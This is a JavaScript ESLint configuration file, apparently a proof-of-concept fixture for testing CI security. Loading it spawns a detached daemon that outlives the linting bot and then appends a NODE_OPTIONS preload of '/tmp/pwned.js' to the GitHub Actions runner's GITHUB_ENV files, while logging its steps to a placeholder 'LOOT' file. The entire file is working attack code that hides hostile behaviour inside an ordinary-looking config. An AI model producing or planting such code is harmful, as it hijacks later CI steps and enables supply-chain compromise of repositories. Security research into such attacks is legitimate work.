// A pull request's eslint.config.js that leaves a process behind, out of ESLint's process group,
// which waits for the bot to exit and then appends to GITHUB_ENV: after the bot's last look at
// the file, for the steps that follow. It notes its pid in the file LOOT names.
"use strict";
const { spawn } = require("child_process");

const LOOT = "@LOOT@";
const daemon = `
const fs = require("fs"), path = require("path");
const bot = ${process.ppid};
const folder = path.join(process.env.RUNNER_TEMP || "/nonexistent", "_runner_file_commands");
fs.appendFileSync(${JSON.stringify(LOOT)}, "daemon " + process.pid + " waits for " + bot + "\\n");
const alive = () => { try { process.kill(bot, 0); return true; } catch { return false; } };
const timer = setInterval(() => {
  if (alive()) return;
  clearInterval(timer);
  for (const f of fs.readdirSync(folder).filter((f) => f.startsWith("set_env_"))) {
    fs.appendFileSync(path.join(folder, f), "NODE_OPTIONS=--require=/tmp/pwned.js\\n");
  }
  fs.appendFileSync(${JSON.stringify(LOOT)}, "daemon wrote GITHUB_ENV\\n");
}, 20);
setTimeout(() => process.exit(0), 60000);
`;
spawn(process.execPath, ["-e", daemon], { detached: true, stdio: "ignore" }).unref();

module.exports = [];
